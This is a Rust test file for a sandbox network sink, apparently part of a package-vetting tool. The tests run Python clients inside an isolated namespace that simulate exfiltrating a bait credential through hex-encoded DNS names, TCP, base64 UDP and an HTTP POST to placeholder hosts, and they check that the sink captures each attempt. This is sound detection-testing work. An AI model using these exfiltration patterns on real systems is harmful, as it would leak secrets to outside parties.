//! The sandbox's network as `premain vet` will use it: a namespace with only loopback and the sink
//! in it, driven by real `python3` children inside the namespace. Needs root (`cargo xtask test`
//! runs the unit tests as root).

use std::{
    io::{ErrorKind, Read as _, Write as _},
    net::{IpAddr, SocketAddr, TcpListener, TcpStream, UdpSocket},
    time::{Duration, Instant},
};

use super::{
    capture::{Capture, Encoding, Place, Transport},
    index::{IndexUrl, plan},
    netns::NetNs,
    sink::{Sink, SinkConfig},
};
use crate::testing::{cannot_run, program};

const BAIT: &str = "AKIApremainBait4f7Q";

/// Namespaces and BPF need root: elsewhere the test cannot run.
fn is_root() -> bool {
    // SAFETY: no preconditions.
    let root = unsafe { libc::geteuid() } == 0;
    if !root {
        cannot_run("creating a network namespace and loading BPF need root");
    }
    root
}

/// Runs `python3 -c code BAIT` inside `ns`; returns its stdout, failing on a non-zero exit.
fn python_in(ns: &NetNs, code: &str) -> String {
    let mut command = program("python3");
    command.args(["-c", code, BAIT]);
    ns.enter_on_exec(&mut command);
    let out = command.output().expect("running python3");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "python3 failed: {stderr}");
    String::from_utf8(out.stdout).unwrap()
}

/// The sink serves on its own thread: waits until the capture satisfies `done`.
fn wait_for(sink: &Sink, done: impl Fn(&Capture) -> bool) -> Capture {
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        let capture = sink.captured();
        if done(&capture) || Instant::now() > deadline {
            return capture;
        }
        std::thread::sleep(Duration::from_millis(20));
    }
}

const CLIENT: &str = r#"
import base64, socket, struct, sys, urllib.request
bait = sys.argv[1].encode()

# getaddrinfo through glibc and the machine's own /etc/resolv.conf: any nameserver is the sink.
name = bait.hex() + ".exfil.example"
print(sorted({a[4][0] for a in socket.getaddrinfo(name, 443, proto=socket.IPPROTO_TCP)}))

with socket.create_connection(("pypi-mirror.example", 31337), timeout=5) as s:
    s.sendall(b"token=" + bait)
with socket.create_connection(("2001:db8::99", 22), timeout=5) as s:
    s.sendall(b"SSH-2.0-x\r\n")
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.sendto(base64.b64encode(b"k=" + bait), ("198.51.100.7", 5000))
u.sendto(b"second", ("198.51.100.7", 5000))

# DNS over TCP to a nameserver nobody configured.
q = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + b"\x03tcp\x07example\x00" + struct.pack(">HH", 1, 1)
with socket.create_connection(("1.1.1.1", 53), timeout=5) as s:
    s.sendall(struct.pack(">H", len(q)) + q)
    answer = s.recv(512)
print(socket.inet_ntoa(answer[-4:]))

# An HTTP upload gets its 200 instead of hanging.
r = urllib.request.urlopen("http://upload.example:8080/c", data=b"secret=" + bait, timeout=5)
print(r.status)
"#;

#[test]
fn the_sink_takes_every_connection_datagram_and_name() {
    if !is_root() {
        return;
    }
    let ns = NetNs::new().unwrap();
    let sink = Sink::start(&ns, SinkConfig::default()).unwrap();
    let out = python_in(&ns, CLIENT);
    assert_eq!(out, "['192.0.2.1', '2001:db8::1']\n192.0.2.1\n200\n", "what the client saw");

    let capture = wait_for(&sink, |c| c.flows.iter().filter(|f| f.received > 0).count() >= 5);
    let flow = |ip: &str, port: u16| {
        let destination = SocketAddr::new(ip.parse().unwrap(), port);
        capture.flows.iter().find(|f| f.destination == destination).unwrap_or_else(|| panic!("{capture:#?}"))
    };
    assert_eq!(flow("192.0.2.1", 31337).bytes, format!("token={BAIT}").as_bytes());
    assert_eq!(flow("192.0.2.1", 31337).transport, Transport::Tcp);
    assert!(flow("192.0.2.1", 31337).source.ip().is_loopback(), "clients' own addresses are loopback");
    assert_eq!(flow("2001:db8::99", 22).bytes, b"SSH-2.0-x\r\n");
    let udp = flow("198.51.100.7", 5000);
    assert_eq!(udp.transport, Transport::Udp);
    assert!(udp.bytes.ends_with(b"second"), "both datagrams in one flow");
    assert!(flow("192.0.2.1", 8080).bytes.starts_with(b"POST /c HTTP/1.1"));
    assert!(flow("1.1.1.1", 53).received > 0);

    let names: Vec<(&str, Transport)> = capture.dns.iter().map(|q| (q.name.as_str(), q.transport)).collect();
    let hex_name = format!("{}.exfil.example", hex(BAIT.as_bytes()));
    assert!(names.contains(&(hex_name.as_str(), Transport::Udp)), "{names:?}");
    assert!(names.contains(&("pypi-mirror.example", Transport::Udp)), "{names:?}");
    assert!(names.contains(&("tcp.example", Transport::Tcp)), "{names:?}");

    let evidence = sink.contains(BAIT.as_bytes());
    let found = |encoding: Encoding, place: &dyn Fn(&Place) -> bool| {
        evidence.iter().any(|e| e.encoding == encoding && place(&e.place))
    };
    let in_flow_to = |port: u16| move |p: &Place| matches!(p, Place::Flow { destination, .. } if destination.port() == port);
    assert!(found(Encoding::Raw, &in_flow_to(31337)), "{evidence:#?}");
    assert!(found(Encoding::Base64, &in_flow_to(5000)), "{evidence:#?}");
    assert!(found(Encoding::Raw, &in_flow_to(8080)), "{evidence:#?}");
    assert!(found(Encoding::Hex, &|p| matches!(p, Place::DnsName { .. })), "{evidence:#?}");
    assert_eq!(sink.contains(b"a value nobody sent"), []);

    let stopped = sink.stop();
    assert!(stopped.flows.len() >= capture.flows.len());
}

#[test]
fn the_host_network_is_out_of_reach() {
    if !is_root() {
        return;
    }
    // Listeners of the host (this test runs in the machine's own namespace).
    let host_tcp = TcpListener::bind("0.0.0.0:0").unwrap();
    host_tcp.set_nonblocking(true).unwrap();
    let host_udp = UdpSocket::bind("0.0.0.0:0").unwrap();
    host_udp.set_nonblocking(true).unwrap();
    let (tcp_port, udp_port) = (host_tcp.local_addr().unwrap().port(), host_udp.local_addr().unwrap().port());
    // The host's own address on its default route, if it has one.
    let host_ip: Option<IpAddr> = UdpSocket::bind("0.0.0.0:0")
        .and_then(|s| s.connect("192.0.2.1:9").and_then(|()| s.local_addr()))
        .ok()
        .map(|a| a.ip())
        .filter(|ip| !ip.is_unspecified());

    let ns = NetNs::new().unwrap();
    let sink = Sink::start(&ns, SinkConfig::default()).unwrap();

    // The namespace's loopback is its own: the host's 127.0.0.1 listener is not there.
    let refused = ns.run_in(|| TcpStream::connect(("127.0.0.1", tcp_port)).map(drop)).unwrap();
    assert_eq!(refused.unwrap_err().kind(), ErrorKind::ConnectionRefused);

    let target = host_ip.map_or("127.0.0.1".to_string(), |ip| ip.to_string());
    let out = python_in(
        &ns,
        &format!(
            r#"
import socket
try:
    socket.create_connection(("127.0.0.1", {tcp_port}), timeout=3)
    print("loopback: connected")
except ConnectionRefusedError:
    print("loopback: refused")
with socket.create_connection(("{target}", {tcp_port}), timeout=3) as s:
    s.sendall(b"hello host")
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"hello udp", ("{target}", {udp_port}))
"#
        ),
    );
    assert!(out.starts_with("loopback: refused"), "{out}");
    if let Some(ip) = host_ip {
        // The host's address is just another address: the sink took the connection.
        let capture = wait_for(&sink, |c| {
            c.flows.iter().any(|f| f.destination == SocketAddr::new(ip, tcp_port) && f.received > 0)
        });
        assert!(capture.flows.iter().any(|f| f.destination == SocketAddr::new(ip, tcp_port)), "{capture:#?}");
        assert!(capture.flows.iter().any(|f| f.destination == SocketAddr::new(ip, udp_port)), "{capture:#?}");
    }
    std::thread::sleep(Duration::from_millis(200));
    match host_tcp.accept() {
        Err(e) if e.kind() == ErrorKind::WouldBlock => {}
        other => panic!("the host's listener was reached: {other:?}"),
    }
    let mut buf = [0u8; 64];
    assert_eq!(host_udp.recv_from(&mut buf).unwrap_err().kind(), ErrorKind::WouldBlock);
}

/// What the client of the relay test asks, and how it reads the answers: each line the
/// answer's `X-Index` header (and whether its body came whole), its status line, or the error.
const RELAY_CLIENT: &str = r#"
import socket, sys
index, other = int(sys.argv[2]), int(sys.argv[3])

def ask(host, port, what):
    try:
        with socket.create_connection((host, port), timeout=5) as s:
            s.sendall(b"GET /" + what.encode() + b" HTTP/1.0\r\nHost: x\r\n\r\n")
            data = b""
            while b"\r\n\r\n" not in data:
                d = s.recv(65536)
                if not d:
                    break
                data += d
            head, _, body = data.partition(b"\r\n\r\n")
            lines = head.decode().split("\r\n")
            saw = [l[len("X-Index: "):] for l in lines if l.startswith("X-Index: ")]
            if not saw:
                return lines[0]
            while True:
                d = s.recv(65536)
                if not d:
                    break
                body += d
            whole = body == bytes(i % 251 for i in range(256 * 1024))
            return saw[0] + (" whole" if whole else " cut at %d" % len(body))
    except OSError as e:
        return type(e).__name__

print(sorted({a[4][0] for a in socket.getaddrinfo("index.example", 8443, proto=socket.IPPROTO_TCP)}))
print(ask("127.0.0.1", index, "literal"))
print(ask("index.example", 8443, "by-name"))
print(ask("2001:db8::2", 8443, "by-v6"))
print(ask("index.example", 8444, "other-port"))
print(ask("127.0.0.1", other, "other-service"))
"#;

#[test]
fn the_sink_relays_the_index_and_nothing_else() {
    if !is_root() {
        return;
    }
    // The index, on the host's loopback: it answers with the request's first line and a body.
    let index = TcpListener::bind("127.0.0.1:0").unwrap();
    let index_port = index.local_addr().unwrap().port();
    let served = std::thread::spawn(move || {
        let body: Vec<u8> = (0..256 * 1024).map(|i| (i % 251) as u8).collect();
        let mut seen = Vec::new();
        for stream in index.incoming() {
            let mut stream = stream.unwrap();
            let mut request = Vec::new();
            let mut buf = [0u8; 4096];
            while !request.windows(4).any(|w| w == b"\r\n\r\n") {
                match stream.read(&mut buf) {
                    Ok(0) | Err(_) => break,
                    Ok(n) => request.extend_from_slice(&buf[..n]),
                }
            }
            let first = String::from_utf8_lossy(&request).lines().next().unwrap_or("").to_owned();
            if first == "STOP" {
                return seen;
            }
            let head =
                format!("HTTP/1.0 200 OK\r\nX-Index: saw {first}\r\nContent-Length: {}\r\n\r\n", body.len());
            let _ = stream.write_all(head.as_bytes()).and_then(|()| stream.write_all(&body));
            seen.push(first);
        }
        seen
    });
    // Another service of the host's loopback: the sandbox must not reach it.
    let other = TcpListener::bind("127.0.0.1:0").unwrap();
    other.set_nonblocking(true).unwrap();
    let other_port = other.local_addr().unwrap().port();

    let endpoints = [
        IndexUrl::parse(&format!("http://127.0.0.1:{index_port}/simple/")).unwrap().endpoint,
        IndexUrl::parse("https://index.example:8443/simple/").unwrap().endpoint,
    ];
    let index_addr = SocketAddr::from(([127, 0, 0, 1], index_port));
    let relay = plan(&endpoints, |_, _| Ok(vec![index_addr])).unwrap();
    let ns = NetNs::new().unwrap();
    let sink = Sink::start(&ns, SinkConfig { relay, ..SinkConfig::default() }).unwrap();
    let mut command = program("python3");
    command.args(["-c", RELAY_CLIENT, BAIT, &index_port.to_string(), &other_port.to_string()]);
    ns.enter_on_exec(&mut command);
    let out = command.output().expect("running python3");
    assert!(out.status.success(), "python3 failed: {}", String::from_utf8_lossy(&out.stderr));
    assert_eq!(
        String::from_utf8(out.stdout).unwrap(),
        "['192.0.2.2', '2001:db8::2']\n\
         saw GET /literal HTTP/1.0 whole\n\
         saw GET /by-name HTTP/1.0 whole\n\
         saw GET /by-v6 HTTP/1.0 whole\n\
         HTTP/1.1 200 OK\n\
         ConnectionRefusedError\n",
        "what the sandbox saw: the index at its address, by its name over IPv4 and IPv6; the sink \
         on another port; nothing on the host's other loopback port"
    );
    let capture = sink.stop();
    TcpStream::connect(index_addr).unwrap().write_all(b"STOP\r\n\r\n").unwrap();
    let seen = served.join().unwrap();
    assert_eq!(seen, ["GET /literal HTTP/1.0", "GET /by-name HTTP/1.0", "GET /by-v6 HTTP/1.0"]);
    assert_eq!(
        other.accept().unwrap_err().kind(),
        ErrorKind::WouldBlock,
        "the host's other service was reached"
    );

    let flows: Vec<(String, Option<&str>, String)> = capture
        .flows
        .iter()
        .map(|f| {
            let first = String::from_utf8_lossy(&f.bytes).lines().next().unwrap_or("").to_owned();
            (f.destination.to_string(), f.relayed.as_deref(), first)
        })
        .collect();
    let literal = format!("127.0.0.1:{index_port}");
    assert_eq!(
        flows,
        [
            (literal.clone(), Some(literal.as_str()), "GET /literal HTTP/1.0".to_owned()),
            ("192.0.2.2:8443".into(), Some("index.example:8443"), "GET /by-name HTTP/1.0".into()),
            ("[2001:db8::2]:8443".into(), Some("index.example:8443"), "GET /by-v6 HTTP/1.0".into()),
            ("192.0.2.2:8444".into(), None, "GET /other-port HTTP/1.0".into()),
        ],
        "what was sent is recorded, relayed or not"
    );
    assert!(capture.dns.iter().any(|q| q.name == "index.example"), "{:?}", capture.dns);
}

#[test]
fn a_dropped_sink_and_namespace_let_go() {
    if !is_root() {
        return;
    }
    let ns = NetNs::new().unwrap();
    let sink = Sink::start(&ns, SinkConfig::default()).unwrap();
    drop(sink);
    // Port 53 is free again in the namespace: the sink's sockets are closed. (Retried: a child
    // another test forks at that moment holds copies of every descriptor until its exec.)
    let deadline = Instant::now() + Duration::from_secs(2);
    while let Err(e) = ns.run_in(|| UdpSocket::bind("[::]:53").map(drop)).unwrap() {
        assert!(Instant::now() < deadline, "the dropped sink still holds port 53: {e}");
        std::thread::sleep(Duration::from_millis(10));
    }
    // A second sink in the same namespace starts (the first catch-all is detached).
    let sink = Sink::start(&ns, SinkConfig::default()).unwrap();
    python_in(&ns, "import socket; socket.create_connection(('203.0.113.1', 1), timeout=3).sendall(b'x')");
    let capture = wait_for(&sink, |c| c.flows.iter().any(|f| f.received > 0));
    assert_eq!(capture.flows.len(), 1, "{capture:#?}");
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}
